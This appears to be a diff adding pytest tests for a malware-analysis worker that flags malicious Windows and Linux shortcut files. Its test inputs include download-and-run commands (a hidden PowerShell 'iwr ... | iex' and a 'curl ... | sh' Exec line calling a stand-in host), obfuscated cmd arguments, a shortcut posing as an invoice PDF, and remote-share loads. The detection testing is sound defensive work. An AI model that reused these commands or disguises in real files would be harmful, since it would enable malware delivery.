@@ -1,0 +1,123 @@
+"""The worker `documents` tells what shortcuts start, what they show, and what stands behind their end."""
+
+import pytest
+
+from samplebank.worker.contract import NO_FINDINGS
+from worker import made_documents as made
+from worker.conftest import Extract
+from worker.test_documents import found
+
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+
+
+async def test_the_order_of_a_shortcut_is_told_with_its_machine(documents: Extract) -> None:
+    order = f"-w hidden -c iwr {made.HOST}/a.ps1 | iex"
+
+    result = await documents(made.lnk(POWERSHELL, order, icon="C:\\x\\invoice.pdf", shown=7))
+
+    told = result.result["shortcut"]
+    assert (told["target"], told["arguments"], told["icon"]) == (POWERSHELL, order, "C:\\x\\invoice.pdf")
+    assert (told["machine"], told["machineAddress"]) == ("desktop-ada", "0a:0b:0c:0d:0e:0f")
+    assert found(result) == {
+        "shortcut-runs-interpreter",
+        "shortcut-downloads",
+        "shortcut-hides-window",
+        "shortcut-poses-as-document",
+    }
+    assert result.score >= 70
+    assert "attack.t1059.001" in {tag.value for tag in result.tags}
+
+
+async def test_a_file_behind_the_end_of_a_shortcut_is_a_child(documents: Extract) -> None:
+    behind = b"MZ" + bytes(range(256)) * 4
+
+    result = await documents(made.lnk(r"C:\a.txt", behind=behind), "invoice.lnk")
+
+    (child,) = result.children
+    assert (child.name, child.data, child.how) == ("invoice.lnk/behind", behind, "lnk")
+    assert found(result) == {"shortcut-carries-file"}
+
+
+async def test_bytes_behind_a_shortcut_without_an_end_are_whole(documents: Extract) -> None:
+    behind = b"MZ" + bytes(range(256))
+    content = made.lnk(r"C:\a.txt")[:-4] + behind
+
+    (child,) = (await documents(content)).children
+
+    assert child.data == behind
+
+
+@pytest.mark.parametrize(
+    "order",
+    [
+        "/c " + " " * 300 + "calc.exe",
+        "/c p^o^w^e^r^s^h^e^l^l -c calc",
+        "-enc " + "QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA",
+        "/c set a=abc&&%a:~1,2% x.exe",
+    ],
+)
+async def test_a_disguised_order_is_told(documents: Extract, order: str) -> None:
+    assert "shortcut-is-disguised" in found(await documents(made.lnk(r"C:\Windows\System32\cmd.exe", order)))
+
+
+@pytest.mark.parametrize(
+    ("target", "order"),
+    [
+        (r"C:\Program Files\Word\winword.exe", "letter.docx"),
+        (r"C:\Windows\System32\msiexec.exe", "/x {0A1B}"),
+        (r"C:\Windows\System32\cmd.exe", ""),
+        (r"C:\Windows\System32\rundll32.exe", "shell32.dll,Control_RunDLL"),
+        (r"C:\Users\Ada\letter.txt", ""),
+    ],
+)
+async def test_usual_shortcuts_get_no_score(documents: Extract, target: str, order: str) -> None:
+    result = await documents(made.lnk(target, order))
+
+    assert (result.score, found(result)) == (NO_FINDINGS, set())
+
+
+TEXTS = {
+    "icon of a share": (b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.7\\x\\a.ico\r\n", "shortcut-loads-share"),
+    "script of a share": (b"[InternetShortcut]\r\nURL=file://203.0.113.7/x/a.vbs\r\n", "shortcut-opens-remote-file"),
+    "command of the shell": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\x\\a.ico\r\n", "shortcut-loads-share"),
+    "library": (
+        b"<?xml version='1.0'?><libraryDescription><url>http://203.0.113.7/dav/a.lnk</url></libraryDescription>",
+        "shortcut-opens-remote-file",
+    ),
+    "settings": (b"<PCSettings><DeepLink>cmd.exe /c calc.exe</DeepLink></PCSettings>", "settings-run-program"),
+    "console": (b"<MMC_ConsoleFile>res://apds.dll/redirect.html?target=javascript:eval</MMC_ConsoleFile>", "settings-run-program"),
+    "query": (b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n", "query-of-web"),
+    "desktop": (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.7/a | sh'\n", "shortcut-downloads"),
+    "settings in UTF-16": ("<PCSettings><DeepLink>cmd.exe /c calc.exe</DeepLink></PCSettings>".encode("utf-16"), "settings-run-program"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", TEXTS)
+async def test_a_text_that_acts_is_told(documents: Extract, kind: str) -> None:
+    content, finding = TEXTS[kind]
+
+    assert finding in found(await documents(content))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"[InternetShortcut]\r\nURL=https://example.org/page\r\nIconFile=C:\\a.ico\r\n",
+        b"[Desktop Entry]\nType=Application\nName=Editor\nExec=gedit %U\nIcon=gedit\n",
+        b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n",
+    ],
+)
+async def test_usual_texts_get_no_score(documents: Extract, content: bytes) -> None:
+    result = await documents(content)
+
+    assert (result.score, found(result)) == (NO_FINDINGS, set())
+    assert result.result["shortcut"]
+
+
+async def test_a_shortcut_that_is_cut_off_is_told_as_far_as_it_goes(documents: Extract) -> None:
+    content = made.lnk(POWERSHELL, "-enc " + "A" * 60)
+
+    result = await documents(content[:-150])
+
+    assert result.result["shortcut"]["isDamaged"]
+    assert result.result["shortcut"]["target"] == POWERSHELL
